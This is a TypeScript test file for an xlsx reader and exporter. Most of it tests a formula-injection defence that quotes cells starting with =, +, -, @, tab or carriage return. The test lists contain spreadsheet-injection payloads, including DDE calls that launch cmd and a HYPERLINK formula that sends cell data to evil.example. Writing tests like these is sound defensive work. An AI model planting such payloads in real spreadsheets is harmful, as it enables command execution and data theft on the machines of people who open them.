import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough, Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { exportRowOf, neutraliseFormula, restoreNeutralised, sheetRows, streamWorkbook } from './excel.ts';

async function rowsOf(content: Buffer) {
  const rows: Array<{ number: number; cells: unknown[] }> = [];
  for await (const row of sheetRows(Readable.from([content]))) rows.push({ number: row.number, cells: row.cells.slice(1) });
  return rows;
}

describe('reading xlsx', () => {
  it("reads a shared-strings table's entries as plain text, rich text's runs joined", async () => {
    const book = new ExcelJS.Workbook(); // writes every text to the shared-strings table
    const sheet = book.addWorksheet('S');
    const long = '线索'.repeat(40_000); // longer than a chunk of the table's XML
    sheet.addRow(['姓名', { richText: [{ text: '张', font: { bold: true } }, { text: '三' }] }, 13800138000]);
    sheet.addRow([long, 'a&b <c>']);
    sheet.addRow([]);
    sheet.addRow(['张', '三']);
    const rows = await rowsOf(Buffer.from(await book.xlsx.writeBuffer()));
    assert.deepEqual(rows, [
      { number: 1, cells: ['姓名', '张三', 13800138000] },
      { number: 2, cells: [long, 'a&b <c>'] },
      { number: 4, cells: ['张', '三'] },
    ]);
  });

  it('reads inline strings written by the streaming writer', async () => {
    const chunks: Buffer[] = [];
    const output = new PassThrough();
    output.on('data', (chunk: Buffer) => chunks.push(chunk));
    const book = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: output, useSharedStrings: false, useStyles: false });
    const sheet = book.addWorksheet('S');
    sheet.addRow(['手机号', '姓名']).commit();
    sheet.addRow(['13800138000', '李四']).commit();
    sheet.commit();
    await book.commit();
    assert.deepEqual(await rowsOf(Buffer.concat(chunks)), [
      { number: 1, cells: ['手机号', '姓名'] },
      { number: 2, cells: ['13800138000', '李四'] },
    ]);
  });
});

describe('formula injection: neutraliseFormula / restoreNeutralised (OWASP CSV injection)', () => {
  it('quotes every text a spreadsheet could take for a formula or a DDE call', () => {
    const dangerous = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      "=cmd|' /C calc'!A0",
      '=',
      '==',
      '+cmd|\' /C calc\'!A0',
      "-2+3+cmd|' /C calc'!A0",
      '-1+A1',
      '+A1',
      '-SUM(1)',
      '+1-A1',
      '-1:1',
      '+86 138 0013 8000 A1',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '@',
      '@张三',
      '\t=1+1',
      '\t',
      '\tplain text after a tab',
      '\r=1+1',
      '\r',
      '- 备注',
      '+-+-x',
      '-1e5x',
      '-"quoted"',
      "-'single'",
      '+1!A1',
      '-$A$1',
      '-[1]Sheet1!A1',
      '-#REF!',
      '+{1,2}',
      '=1\n',
      '-3\n=1',
    ];
    for (const text of dangerous) assert.equal(neutraliseFormula(text), `'${text}`, JSON.stringify(text));
  });

  it('leaves phone numbers, plain numbers and every other text as they are', () => {
    const safe = [
      '',
      ' ',
      'plain',
      '张三',
      '13800138000',
      '+8613800138000',
      '+86 138 0013 8000',
      '+86-138-0013-8000',
      '+86 (138) 0013-8000',
      '+1 (555) 123-4567',
      '-3',
      '+3',
      '-3.5',
      '+.5',
      '-1,234.56',
      '-5%',
      '+1.5e3',
      '-2E-7',
      '-',
      '+',
      '--',
      '-(1)',
      ' =1+1', // a leading space: no spreadsheet reads this as a formula
      'a=1',
      'x@example.com',
      "'already quoted",
      "'=1",
      '2024-01-02 03:04:05',
      '\n=1',
    ];
    for (const text of safe) assert.equal(neutraliseFormula(text), text, JSON.stringify(text));
  });

  it('the first character decides: only = + - @ tab and CR start a neutralised text', () => {
    for (let code = 0; code < 0x3000; code++) {
      const char = String.fromCharCode(code);
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const trigger = '=+-@\t\r'.includes(char);
      assert.equal(neutraliseFormula(`${char}A1`), trigger ? `'${char}A1` : `${char}A1`, `U+${code.toString(16)}`);
    }
  });

  it('restoreNeutralised is the exact inverse on what was neutralised, and leaves anything else alone', () => {
    const samples = ['=1+1', '@x', '-A1', '+cmd|x', '\tx', '\rx', '-3', '+86 138 0013 8000', 'plain', '', "'", "''", "'plain", "'-3", "'+86 138", "''=1", '张三'];
    for (const text of samples) assert.equal(restoreNeutralised(neutraliseFormula(text)), text, JSON.stringify(text));
    // A quote the product did not add stays: before ordinary text, before a number or phone, before a quote.
    assert.equal(restoreNeutralised("'plain"), "'plain");
    assert.equal(restoreNeutralised("'-3"), "'-3");
    assert.equal(restoreNeutralised("'+86 138 0013 8000"), "'+86 138 0013 8000");
    assert.equal(restoreNeutralised("''=1"), "''=1");
    assert.equal(restoreNeutralised("'=1"), '=1');
    assert.equal(restoreNeutralised("'@张三"), '@张三');
    // Idempotence of the writer on its own output: neutralising twice adds no second quote.
    for (const text of samples) assert.equal(neutraliseFormula(neutraliseFormula(text)), neutraliseFormula(text), JSON.stringify(text));
  });

  it('every cell the streaming writer writes goes through the rule (headers are the product\'s own)', async () => {
    const columns = [
      { header: 'name', width: 10, value: (row: string[]) => row[0] },
      { header: 'phone', width: 10, value: (row: string[]) => row[1] },
    ];
    assert.deepEqual(exportRowOf(columns, ['=1+1', '+86 138 0013 8000'], () => ''), ["'=1+1", '+86 138 0013 8000']);
    async function* batches() {
      yield [['=HYPERLINK("http://evil.example","x")', '+8613800138000'], ['@SUM(1)', '-3'], ['\tx', 'ok']];
    }
    const output = streamWorkbook(batches(), columns, { timeZone: 'Asia/Shanghai', sheetName: 'S' });
    const chunks: Buffer[] = [];
    for await (const chunk of output) chunks.push(chunk as Buffer);
    const rows = await rowsOf(Buffer.concat(chunks));
    assert.deepEqual(
      rows.map((row) => row.cells),
      [
        ['name', 'phone'],
        ['\'=HYPERLINK("http://evil.example","x")', '+8613800138000'],
        ["'@SUM(1)", '-3'],
        ["'\tx", 'ok'],
      ],
    );
  });
});
